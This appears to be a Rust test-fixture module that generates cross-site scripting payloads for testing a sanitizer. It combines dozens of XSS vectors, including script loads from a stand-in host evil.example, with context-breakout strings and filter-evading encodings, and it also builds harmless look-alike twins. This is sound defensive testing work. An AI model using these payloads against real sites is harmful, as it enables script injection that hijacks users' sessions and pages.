//! Texts that try to become markup: what would run × how it is disguised × what it tries to leave first.

/// What would run or lead astray if it were read as HTML, a URL, CSS or a script.
const VECTORS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://evil.example/\" onmouseover=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea autofocus onfocus=alert(1)>",
    "<b>bold</b>",
    "<marquee onstart=alert(1)>x</marquee>",
    "javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/?a=1&lt=2\"onmouseover=alert(1)",
];

/// What stands before a vector to leave the place that it was written into, and behind it.
const CONTEXTS: [(&str, &str); 24] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("\" ", " x=\""),
    ("' ", " x='"),
    ("\" onmouseover=alert(1) x=\"", ""),
    ("' autofocus onfocus=alert(1) x='", ""),
    ("` onload=alert(1) ", ""),
    ("></a>", ""),
    ("</title>", "<title>"),
    ("</script>", "<script>"),
    ("</style>", ""),
    ("</textarea>", ""),
    ("</option></select>", ""),
    ("</h1></section></main>", ""),
    ("-->", "<!--"),
    ("--!>", ""),
    ("]]>", "<![CDATA["),
    ("<!--", ""),
    ("\"}}]}</script>", ""),
    ("\\\"};alert(1);//", ""),
    ("*/}", "/*"),
    ("{{constructor.constructor('alert(1)')()}}", ""),
    ("x\n\n", "\n\ny"),
];

/// How a vector is disguised.
const DISGUISES: [fn(&str) -> String; 14] = [
    |v| v.to_owned(),
    |v| references(v, |c| format!("&#{};", c as u32)),
    |v| references(v, |c| format!("&#x{:X};", c as u32)),
    |v| references(v, |c| format!("&#{:07}", c as u32)),
    |v| v.replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace(':', "&colon;"),
    |v| {
        v.bytes()
            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
            .collect()
    },
    |v| v.replace('<', "%253C").replace('>', "%253E").replace('"', "%2522").replace('\'', "%2527"),
    |v| v.replace('<', "\\u003c").replace('>', "\\x3e").replace('"', "\\u0022"),
    |v| v.chars().enumerate().map(|(n, c)| if n % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect(),
    |v| v.replace("script", "scr\tipt").replace(" on", "\u{c}on").replace("java", "ja\tva"),
    |v| v.replace('<', "<\u{0}").replace(':', "\u{1}:").replace("on", "o\u{0}n"),
    |v| {
        v.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}").replace('"', "\u{ff02}").replace('\'', "\u{2019}")
    },
    |v| {
        v.replace("<script", "<scr<script>ipt")
            .replace("javascript", "javajavascript:script")
            .replace(" on", " oonn")
    },
    |v| format!("+ADw-{}+AD4- \u{2028}{v}", v.replace(['<', '>'], "")),
];

fn references(text: &str, reference: fn(char) -> String) -> String {
    text.chars().map(|c| if c.is_alphanumeric() { c.to_string() } else { reference(c) }).collect()
}

/// Every payload once, in an order in which neighbours differ in all three parts.
pub fn all() -> Vec<String> {
    let (v, c, d) = (VECTORS.len(), CONTEXTS.len(), DISGUISES.len());
    let mut seen = std::collections::HashSet::new();
    let total = v * c * d;
    // A step without a common factor visits every combination.
    let step = (total * 618 / 1000..).find(|step| gcd(*step, total) == 1).unwrap();
    let combinations = (0..total).map(|n| n * step % total);
    combinations
        .map(|n| {
            let (before, after) = CONTEXTS[n / v % c];
            format!("{before}{}{after}", DISGUISES[n / v / c](VECTORS[n % v]))
        })
        .filter(|payload| seen.insert(payload.clone()))
        .collect()
}

fn gcd(a: usize, b: usize) -> usize {
    if b == 0 { a } else { gcd(b, a % b) }
}

/// A harmless text that is treated like a payload: as long, with the same letters and white space, safe as a URL
/// where the payload is, but without a character that means anything to HTML, URLs, CSS or scripts.
pub fn twin(payload: &str) -> String {
    let start = if model::safe::is_safe_url(payload) { start_of_url(payload) } else { 0 };
    let (start, rest) = payload.split_at(start);
    let harmless = |c: char| if c.is_ascii_punctuation() && !matches!(c, '-' | '+' | '_') { '·' } else { c };
    rest.chars().map(harmless).fold(start.to_owned(), |mut text, c| {
        text.push(c);
        text
    })
}

fn start_of_url(url: &str) -> usize {
    if url.starts_with(['/', '#', '?']) {
        return 1;
    }
    let scheme = url.find(':').map_or(0, |at| at + 1);
    scheme + if url[scheme..].starts_with("//") { 2 } else { 0 }
}
